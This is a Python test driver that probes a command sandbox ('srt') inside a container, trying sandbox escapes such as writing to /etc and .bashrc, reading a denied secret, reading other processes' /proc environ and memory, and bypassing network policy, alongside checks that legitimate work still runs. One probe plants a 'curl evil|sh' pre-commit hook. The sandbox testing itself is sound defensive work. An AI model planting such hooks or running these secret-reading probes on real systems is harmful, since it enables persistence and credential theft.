"""In-container driver of the container tests (run by test_podman.py).

Runs inside `podman run`, as the container's root, or as the unprivileged
LOGIN itself (`podman run --user LOGIN`):

    python3 inside.py --srt PATH --identity root|user --login NAME
                      [--limit-userns]

--limit-userns (profile "maxuserns0"): first move into a new user namespace
(identity-mapped, uids/gids 0-65535, maps written by this process's parent,
the container's root) and set user.max_user_namespaces=0 there.  The
limit is a property of that user namespace alone: the container's and the
host's values do not change, and nothing below it can create a user
namespace.

Then it sets up a base directory (workspace, settings, a denyRead secret, a
.bashrc and a .git of the workspace), starts the servers the probes aim at
(an HTTP origin, TCP and UDP listeners on 127.0.0.1, a Unix socket), runs
every probe as the identity (root; LOGIN, through `setpriv` when the
driver runs as root, as itself when podman started it as LOGIN),
and prints one line "SRT-CTR-RESULT <json>": probe name -> {rc, out, err,
...facts the driver checked itself}.  The assertions are test_podman.py's.

Every subprocess has a timeout.  Nothing here reaches past the container:
the container has --network none, and every server is on its loopback.
"""

import argparse
import ctypes
import http.server
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
TIMEOUT = 30
CLONE_NEWUSER = 0x10000000
GENV = {"GIT_AUTHOR_NAME": "ctr", "GIT_AUTHOR_EMAIL": "ctr@example.com",
        "GIT_COMMITTER_NAME": "ctr", "GIT_COMMITTER_EMAIL": "ctr@example.com",
        "GIT_CONFIG_NOSYSTEM": "1"}
SECRET = "SRT-CTR-SECRET-4711"
BLOCKED_NAME = "blocked.srt-ctr.invalid"


# ---------------------------------------------------------------- userns --

def limit_userns():
    """Continue in a new, identity-mapped user namespace whose
    user.max_user_namespaces is 0.  The parent (this process before the
    fork) writes the maps, waits for the child and exits with its status."""
    libc = ctypes.CDLL(None, use_errno=True)
    r1, w1 = os.pipe()
    r2, w2 = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r1)
        os.close(w2)
        if libc.unshare(CLONE_NEWUSER) != 0:
            sys.stderr.write("inside.py: unshare(CLONE_NEWUSER): %s\n"
                             % os.strerror(ctypes.get_errno()))
            os._exit(3)
        os.write(w1, b"u")
        os.close(w1)
        if os.read(r2, 1) != b"m":
            os._exit(3)
        # root of this namespace has CAP_SYS_RESOURCE in it: the sysctl of
        # this namespace (and of it alone) is writable
        with open("/proc/sys/user/max_user_namespaces", "w") as f:
            f.write("0\n")
        return
    os.close(w1)
    os.close(r2)
    ok = os.read(r1, 1) == b"u"
    if ok:
        for m in ("uid_map", "gid_map"):
            with open("/proc/%d/%s" % (pid, m), "w") as f:
                f.write("0 0 65536\n")
        os.write(w2, b"m")
    os.close(w2)
    _, st = os.waitpid(pid, 0)
    sys.stdout.flush()
    os._exit(os.waitstatus_to_exitcode(st) if ok else 3)


# --------------------------------------------------------------- servers --

class Origin(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    hits = []

    def log_message(self, *a):
        pass

    def do_GET(self):
        Origin.hits.append(self.path)
        body = b"hello from origin\n"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class Listener:
    """TCP listener on 127.0.0.1 that counts what it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = False
        self.thread = threading.Thread(target=self.loop, daemon=True)
        self.thread.start()

    def loop(self):
        while not self.stop:
            try:
                c, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            c.close()


def udp_received(sock):
    sock.setblocking(False)
    n = 0
    while True:
        try:
            sock.recvfrom(512)
            n += 1
        except OSError:
            return n


# ---------------------------------------------------------------- probes --

PY_TCP = r"""
import socket
print("ran")
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("127.0.0.1", %d))
    s.sendall(b"LEAK")
    print("CONNECTED")
except OSError as e:
    print("ERR", type(e).__name__, e.errno)
"""

PY_UDP = r"""
import socket
print("ran")
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
except OSError as e:  # the no-namespace mode refuses UDP sockets
    print("ERR socket", type(e).__name__, e.errno)
    raise SystemExit(0)
for i in range(5):
    try:
        s.sendto(b"LEAK", ("127.0.0.1", %d))
        print("SENT")
    except OSError as e:
        print("ERR", type(e).__name__, e.errno)
"""

PY_DNS = r"""
import json, socket
print("ran")
res = {}
try:
    socket.getaddrinfo("example.com", 80)
    res["gai"] = "resolved"
except socket.gaierror:
    res["gai"] = "gaierror"
ns = None
try:
    for l in open("/etc/resolv.conf"):
        if l.split()[:1] == ["nameserver"]:
            ns = l.split()[1]
            break
except OSError:
    pass
res["ns"] = ns
if ns:
    try:
        s = socket.socket(socket.AF_INET6 if ":" in ns else socket.AF_INET,
                          socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                 b"\x07example\x03com\x00\x00\x01\x00\x01", (ns, 53))
        s.recvfrom(512)
        res["udp"] = "answered"
    except OSError as e:
        res["udp"] = "%s:%s" % (type(e).__name__, e.errno)
print(json.dumps(res))
"""

PY_UNIX = r"""
import errno, socket
print("ran")
try:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)
    s.connect(%r)
    print("CONNECTED")
except OSError as e:
    print("ERR", errno.errorcode.get(e.errno, e.errno))
"""

PY_VSOCK = r"""
import errno, socket
print("ran")
try:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    print("CREATED")
except OSError as e:
    print("ERR", errno.errorcode.get(e.errno, e.errno))
"""


PY_PROC = r"""
import json, os, sys
print("ran")
pid, secret = int(sys.argv[1]), sys.argv[2]
res = {"visible": os.path.exists("/proc/%d" % pid)}
def probe(name, f):
    try:
        v = f()
        res[name] = "OK " + repr(v)[:200]
    except OSError as e:
        res[name] = "ERR %s" % e.errno
probe("environ", lambda: open("/proc/%d/environ" % pid, "rb").read())
probe("root", lambda: os.listdir("/proc/%d/root/" % pid))
probe("root_secret", lambda: open("/proc/%d/root%s" % (pid, secret)).read())
probe("cwd", lambda: os.listdir("/proc/%d/cwd/" % pid))
probe("fd_link", lambda: [os.readlink("/proc/%d/fd/%s" % (pid, n))
                           for n in os.listdir("/proc/%d/fd" % pid)])
probe("fd_open", lambda: [os.open("/proc/%d/fd/%s" % (pid, n), os.O_RDONLY)
                          for n in os.listdir("/proc/%d/fd" % pid)])
probe("mem", lambda: open("/proc/%d/mem" % pid, "rb").read(1))
print(json.dumps(res))
"""


class Driver:
    def __init__(self, srt, identity, login):
        self.srt_bin = srt
        self.identity = identity
        self.login = login
        pw = pwd.getpwnam(login) if identity == "user" else pwd.getpwuid(0)
        self.uid, self.gid = pw.pw_uid, pw.pw_gid
        # "user" as root: switch with setpriv; else podman made us the user
        self.setpriv = identity == "user" and os.geteuid() == 0
        if not self.setpriv and os.geteuid() != self.uid:
            sys.exit("inside.py: running as uid %d, not as %s"
                     % (os.geteuid(), login))
        self.base = tempfile.mkdtemp(prefix="srt-ctr-", dir="/tmp")
        os.chmod(self.base, 0o755)
        self.ws = self.mkdir("ws")
        if identity == "user":
            self.home = pw.pw_dir
            if not os.path.isdir(self.home):
                os.makedirs(self.home, 0o755)
                os.chown(self.home, self.uid, self.gid)
        else:
            self.home = self.mkdir("home")
        self.results = {"env_switch": "setpriv" if self.setpriv else "none"}

    # -- helpers --------------------------------------------------------
    def own(self, p):
        os.chown(p, self.uid, self.gid)
        return p

    def mkdir(self, rel):
        p = os.path.join(self.base, rel)
        os.makedirs(p, exist_ok=True)
        return self.own(p)

    def mkfile(self, path, content, mode=0o644):
        with open(path, "w") as f:
            f.write(content)
        os.chmod(path, mode)
        return self.own(path)

    def env(self, extra=None):
        e = {"PATH": PATH, "HOME": self.home, "USER": self.login,
             "LOGNAME": self.login, "LC_ALL": "C", "LANG": "C",
             "TERM": "dumb"}
        e.update(extra or {})
        return e

    def wrap(self, argv, env):
        envargs = ["%s=%s" % kv for kv in env.items()]
        if self.setpriv:
            return (["setpriv", "--reuid", self.login, "--regid", self.login,
                     "--init-groups", "--reset-env", "/usr/bin/env", "-i"]
                    + envargs + list(argv))
        return ["/usr/bin/env", "-i"] + envargs + list(argv)

    def run(self, argv, env=None, timeout=TIMEOUT):
        """Run argv as the identity in the workspace; a dict of the result."""
        t = time.monotonic()
        try:
            p = subprocess.run(self.wrap(argv, self.env(env)), cwd=self.ws,
                               stdin=subprocess.DEVNULL,
                               capture_output=True, text=True,
                               errors="replace", timeout=timeout)
            r = {"rc": p.returncode, "out": p.stdout, "err": p.stderr}
        except subprocess.TimeoutExpired as e:
            r = {"rc": "timeout", "out": str(e.stdout or ""),
                 "err": str(e.stderr or "")}
        r["secs"] = round(time.monotonic() - t, 3)
        return r

    def srt(self, name, cmd, settings, opts=(), env=None, **facts):
        """Run `srt --settings S [opts] -c CMD` (str) or `-- ARGV` (list)."""
        argv = [self.srt_bin, "--settings", settings] + list(opts)
        if isinstance(cmd, str):
            argv += ["-c", cmd]
        elif cmd is not None:
            argv += ["--"] + list(cmd)
        r = self.run(argv, env=env)
        r.update(facts)
        self.results[name] = r
        return r

    # -- the run --------------------------------------------------------
    def main(self):
        ws, base = self.ws, self.base
        # servers, on the container's loopback
        origin = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Origin)
        origin.daemon_threads = True
        threading.Thread(target=origin.serve_forever,
                         kwargs={"poll_interval": 0.1}, daemon=True).start()
        oport = origin.server_address[1]
        tcp = Listener()        # allowed by the policy: only the netns stops it
        unlisted = Listener()   # not in allowedDomains: the proxy refuses it
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        uport = udp.getsockname()[1]
        usock = os.path.join(base, "host.sock")
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind(usock)
        os.chmod(usock, 0o777)
        unix.listen(4)
        unix.setblocking(False)

        # files
        self.mkdir("secret")
        self.mkfile(os.path.join(base, "secret", "key"), SECRET + "\n")
        self.mkfile(os.path.join(ws, ".bashrc"), "original\n")
        gi = self.run(["git", "init", "-q", "."], env=GENV)
        self.results["setup_git_init"] = gi
        fs = {"allowWrite": ["."], "denyRead": [os.path.join(base, "secret")]}
        netp = {"allowedDomains": ["127.0.0.1:%d" % p
                                   for p in (oport, tcp.port, uport)]}
        key = {"enableWeakerNestedSandbox": True, "network": netp,
               "filesystem": fs}
        nokey = {"network": netp, "filesystem": fs}
        s_key = os.path.join(base, "s-key.json")
        s_nokey = os.path.join(base, "s-nokey.json")
        self.mkfile(s_key, json.dumps(key, indent=1))
        self.mkfile(s_nokey, json.dumps(nokey, indent=1))

        # what this place allows, outside srt
        self.results["env_userns"] = self.run(["unshare", "-U", "true"])
        with open("/proc/sys/user/max_user_namespaces") as f:
            self.results["env_max_user_namespaces"] = f.read().strip()
        self.results["env_vsock"] = self.run(["python3", "-c", PY_VSOCK])
        self.results["env_uid"] = self.run(["id", "-u"])

        # srt's verdict on this place
        self.srt("check_nokey", None, s_nokey, opts=["--check"])
        self.srt("check_key", None, s_key, opts=["--check"])
        self.srt("nokey_echo", ["echo", "hi"], s_nokey)
        self.srt("key_echo", ["echo", "hi"], s_key)

        # attacks (with the key); each probe prints "ran" first, so that a
        # refusal is told apart from srt not running the command at all
        for name, path in (("write_etc", "/etc/srt-ctr-probe"),
                           ("write_home", os.path.join(self.home,
                                                       "srt-ctr-probe")),
                           ("write_parent", os.path.join(base, "probe"))):
            r = self.srt(name, ["sh", "-c", 'echo ran; echo pwned > "$1"',
                                "sh", path], s_key)
            r["exists"] = os.path.lexists(path)
            if r["exists"]:
                os.unlink(path)
        r = self.srt("write_bashrc", "echo ran; echo pwned >> .bashrc", s_key)
        with open(os.path.join(ws, ".bashrc")) as f:
            r["content"] = f.read()
        r = self.srt("write_hook",
                     "echo ran; echo 'curl evil|sh' > .git/hooks/pre-commit",
                     s_key)
        r["exists"] = os.path.lexists(os.path.join(ws, ".git", "hooks",
                                                   "pre-commit"))
        self.srt("read_denied", "echo ran; cat %s" % os.path.join(
            base, "secret", "key"), s_key)
        r = self.srt("tcp_direct", ["python3", "-c", PY_TCP % tcp.port],
                     s_key)
        time.sleep(0.3)
        r["accepted"] = tcp.accepted
        r = self.srt("udp", ["python3", "-c", PY_UDP % uport], s_key)
        time.sleep(0.3)
        r["received"] = udp_received(udp)
        self.srt("dns", ["python3", "-c", PY_DNS], s_key)
        r = self.srt("unix", ["python3", "-c", PY_UNIX % usock], s_key)
        try:
            unix.accept()[0].close()
            r["accepted"] = True
        except OSError:
            r["accepted"] = False
        self.srt("vsock", ["python3", "-c", PY_VSOCK], s_key)
        # metadata outside the writable roots (the no-namespace mode's
        # metadata gate; read-only mounts elsewhere), and a TCP listener
        meta = os.path.join(base, "meta.txt")
        self.mkfile(meta, "x", mode=0o600)
        r = self.srt("chmod_outside", ["sh", "-c", 'echo ran; chmod 666 "$1"', "sh", meta], s_key)
        r["mode"] = oct(os.stat(meta).st_mode & 0o777)
        self.srt("listen_tcp", ["python3", "-c", "print('ran')\nimport socket\n"
                                "s = socket.socket()\ntry:\n    s.listen(1); print('LISTENING')\n"
                                "except OSError as e:\n    print('ERR', e.errno)"], s_key)
        # nested mode shows the container's processes: the files of one
        # outside the sandbox (this driver, which sees the denyRead secret)
        # stay closed
        self.srt("proc_outside", ["python3", "-c", PY_PROC, str(os.getpid()),
                                  os.path.join(base, "secret", "key")], s_key)
        # the files of outside processes their owner may write without a
        # ptrace check (oom_score_adj): with allowNestedUserNamespaces
        # Landlock lets the command write /proc, so in nested mode only the
        # read-only /proc refuses it
        s_nested_userns = os.path.join(base, "s-key-userns.json")
        self.mkfile(s_nested_userns, json.dumps(dict(key, allowNestedUserNamespaces=True)))
        before = open("/proc/self/oom_score_adj").read().strip()
        r = self.srt("proc_write_outside",
                     ["sh", "-c", 'echo ran; echo 999 > /proc/$1/oom_score_adj', "sh",
                      str(os.getpid())], s_nested_userns)
        r["before"] = before
        r["after"] = open("/proc/self/oom_score_adj").read().strip()
        curl = "curl -sS --max-time 20 --noproxy '' -x \"$HTTP_PROXY\" "
        self.srt("proxy_denied_name",
                 "echo ran; " + curl + "-o /dev/null -D - "
                 "http://%s/" % BLOCKED_NAME, s_key)
        r = self.srt("proxy_denied_port",
                     "echo ran; " + curl + "-o /dev/null -D - "
                     "http://127.0.0.1:%d/" % unlisted.port, s_key)
        r["accepted"] = unlisted.accepted

        # legitimate work (with the key)
        r = self.srt("git", "git init -q -b main proj && cd proj && "
                     "echo hello > hello.txt && git add hello.txt && "
                     "git commit -q -m 'first commit' && "
                     "git log --format=%s", s_key, env=GENV)
        r["log"] = self.run(["git", "-C", os.path.join(ws, "proj"), "log",
                             "--format=%s"], env=GENV)
        before = len(Origin.hits)
        r = self.srt("curl_http_proxy",
                     curl + "http://127.0.0.1:%d/hello" % oport, s_key)
        r["hits"] = Origin.hits[before:]
        before = len(Origin.hits)
        r = self.srt("curl_socks_proxy",
                     "curl -sS --max-time 20 --noproxy '' -x \"$ALL_PROXY\" "
                     "http://127.0.0.1:%d/hello" % oport, s_key)
        r["hits"] = Origin.hits[before:]
        self.srt("python", ["python3", "-c", "print(6 * 7)"], s_key)
        node = shutil.which("node", path=PATH)
        self.srt("node", [node or "node", "-e", "console.log(6 * 7)"], s_key)

        tcp.stop = unlisted.stop = True
        origin.shutdown()
        return self.results


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--srt", required=True)
    ap.add_argument("--identity", choices=("root", "user"), required=True)
    ap.add_argument("--login", default="root")
    ap.add_argument("--limit-userns", action="store_true")
    a = ap.parse_args()
    if a.limit_userns:
        limit_userns()
    d = Driver(a.srt, a.identity, a.login)
    try:
        res = d.main()
    finally:
        shutil.rmtree(d.base, ignore_errors=True)
    sys.stdout.write("SRT-CTR-RESULT " + json.dumps(res) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
